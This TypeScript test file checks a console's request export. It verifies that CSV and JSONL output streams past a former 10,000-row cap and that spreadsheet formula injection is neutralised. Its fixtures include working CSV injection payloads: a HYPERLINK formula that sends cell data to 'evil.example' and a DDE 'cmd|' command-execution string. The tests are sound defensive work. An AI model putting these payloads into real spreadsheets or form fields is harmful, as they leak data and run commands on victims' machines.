import { randomBytes } from "node:crypto";
import { describe, expect, it } from "vitest";
import { sql } from "drizzle-orm";
import * as v1Requests from "@/app/api/v1/authorization-requests/route";
import * as exportRoute from "@/app/api/console/requests/export/route";
import * as settings from "@/app/api/console/settings/route";
import { exportColumns } from "@/lib/console/export-format";
import { exportRequests } from "@/lib/console/request-export";
import { createConsoleTenant } from "../../app/api/console/console-fixtures";
import { setupTestDatabase } from "../../setup/database";
import { bearer, callRoute, origin } from "../../setup/http";

const db = setupTestDatabase();

/** Parses one CSV line of always-quoted fields. */
function csvCells(line: string): string[] {
  return [...line.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1]!.replaceAll('""', '"'));
}

describe("request export", () => {
  it("streams more rows than the old 10,000 cap, every one of them, in both formats", async () => {
    const t = await createConsoleTenant(db());
    const total = 10_050;
    const prefix = `req_${randomBytes(4).toString("hex")}`;
    await db()
      .execute(sql`insert into authorization_requests (request_id, tenant_id, body_hash, status, principal, action, principal_type, action_type, summary, routing_targets, expires_at, created_at)
      select ${prefix} || lpad(i::text, 10, '0'), ${t.tenantId}, 'h', 'approved', '{"type":"human","attributes":[]}', '{"type":"x","summary":"s"}', 'human', 'x', 'bulk ' || i,
        array['default'], now() + interval '1 hour', now() - make_interval(secs => i)
      from generate_series(1, ${total}) as i`);
    const csv = await new Response(await exportRequests(db(), t.ctx, {}, "csv")).text();
    const lines = csv.trimEnd().split("\r\n");
    expect(lines[0]).toBe(exportColumns.join(","));
    expect(lines).toHaveLength(total + 1);
    expect(new Set(lines.slice(1).map((l) => csvCells(l)[0])).size).toBe(total);
    const jsonl = await new Response(await exportRequests(db(), t.ctx, {}, "jsonl")).text();
    expect(jsonl.split("\n").filter((l) => l.startsWith('{"t":"request"'))).toHaveLength(total);
  }, 120_000);

  it("neutralises spreadsheet formulas in every cell, and exports decision, reviewers, keyId, fail-open, execution and routing", async () => {
    const t = await createConsoleTenant(db());
    expect(
      (await callRoute(settings.PUT, { method: "PUT", headers: t.admin, json: { routingScript: '["$approve"]' } }))
        .status,
    ).toBe(200);
    const hostile = { summary: '=HYPERLINK("http://evil.example/?"&A1,"click")', externalId: "+1+cmd|' /C calc'!A0" };
    const submitted = await callRoute(v1Requests.POST, {
      method: "POST",
      headers: bearer(t.apiKey),
      json: {
        externalId: hostile.externalId,
        principal: { type: "human", attributes: [{ key: "email", label: "Email", value: "a@b.example" }] },
        action: { type: "@SUM(1)", summary: hostile.summary },
      },
    });
    expect(submitted.status).toBe(200);
    const requestId = submitted.body.requestId as string;
    await db().execute(sql`update authorization_requests set decision_reviewers = ${JSON.stringify([
      {
        type: "human",
        attributes: [
          { key: "email", label: "Email", value: "r1@b.example" },
          { key: "reason", label: "Reason", value: "-looks fine" },
        ],
      },
      { type: "human", attributes: [{ key: "reason", label: "Reason", value: "second look" }] },
    ])}::jsonb,
      decision_key_id = 'auth-key-1', status_reason = '-2+3' where request_id = ${requestId}`);
    const response = await exportRoute.GET(
      new Request(`${origin}/api/console/requests/export?format=csv`, { headers: t.viewer }),
      { params: Promise.resolve({}) },
    );
    const [header, row] = (await response.text()).trimEnd().split("\r\n");
    const cells = Object.fromEntries(header!.split(",").map((name, i) => [name, csvCells(row!)[i]]));
    expect(cells.summary).toBe(`'${hostile.summary}`);
    expect(cells.externalId).toBe(`'${hostile.externalId}`);
    expect(cells.actionType).toBe("'@SUM(1)");
    expect(cells.statusReason).toBe("'-2+3");
    expect(cells).toMatchObject({
      status: "approved",
      decisionSource: "routing",
      failOpen: "false",
      decisionKeyId: "auth-key-1",
      routingTargets: "$approve",
    });
    expect(cells.reviewers).toBe("human(email=r1@b.example, reason=-looks fine) | human(reason=second look)");
    for (const value of Object.values(cells)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });
});
